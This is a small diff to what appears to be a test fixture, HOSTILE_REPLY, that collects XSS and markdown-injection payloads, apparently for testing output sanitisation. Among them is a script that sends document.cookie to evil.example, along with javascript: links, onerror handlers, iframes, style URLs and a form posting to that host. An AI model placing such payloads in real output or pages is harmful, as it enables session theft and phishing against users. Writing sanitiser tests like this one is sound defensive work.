@@ -321,7 +321,8 @@ HOSTILE_REPLY = """Here you go:
 <script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
 [click me](javascript:alert(1)) and [home](https://evil.example/phish)
 <img src=x onerror="alert(1)"> <iframe src="https://evil.example"></iframe>
-<a href="https://evil.example">raw link</a> <style>body{background:url(https://evil.example/b)}</style>
+<a href="https://evil.example">raw link</a>
+<style>body{background:url(https://evil.example/b)}</style>
 [ref]: https://evil.example/ref
 ![also][ref]
 <form action="https://evil.example"><input name=x></form>"""
